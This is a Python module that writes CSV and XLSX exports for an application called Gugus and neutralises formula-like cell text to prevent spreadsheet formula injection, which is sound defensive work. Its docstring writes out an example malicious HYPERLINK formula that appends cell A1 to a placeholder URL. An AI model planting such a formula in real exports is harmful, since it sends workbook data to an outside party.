"""The one writer of spreadsheets and CSV files that leave Gugus.

Cells hold what users typed (a group's name, a receipt's description, an import's bad
value). A spreadsheet program runs text that starts with `=`, `+`, `-` or `@` (or a tab
or carriage return before one) as a formula, so a ketua who names the group
`=HYPERLINK("http://x/?"&A1,"klik")` would plant a live link in the office's workbook.
Every cell goes through `safe_text`: in XLSX such text is stored as a string with Excel's
quote prefix (shown as typed, never evaluated); in CSV it is prefixed with `'`.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def safe_text(value):
    """A CSV cell: text a spreadsheet would evaluate gets a leading apostrophe."""
    return "'" + value if is_formula_like(value) else value


class Sheet:
    def __init__(self, worksheet):
        self._sheet = worksheet

    def append(self, row: Iterable) -> None:
        self._sheet.append([self._cell(v) for v in row])

    def _cell(self, value):
        if not is_formula_like(value):
            return value
        cell = WriteOnlyCell(self._sheet, value=value)
        cell.data_type = "s"  # text, never a formula
        cell.quotePrefix = True
        return cell


class XlsxWriter:
    """A streaming (write-only) workbook whose sheets neutralise formula-like text."""

    def __init__(self):
        self._book = Workbook(write_only=True)

    def sheet(self, title: str) -> Sheet:
        return Sheet(self._book.create_sheet(title))

    def bytes(self) -> bytes:
        out = io.BytesIO()
        self._book.save(out)
        return out.getvalue()


class CsvWriter:
    """csv.writer over a text stream, every cell through `safe_text`."""

    def __init__(self, out, **kwargs):
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable) -> None:
        self._writer.writerow([safe_text(v) for v in row])
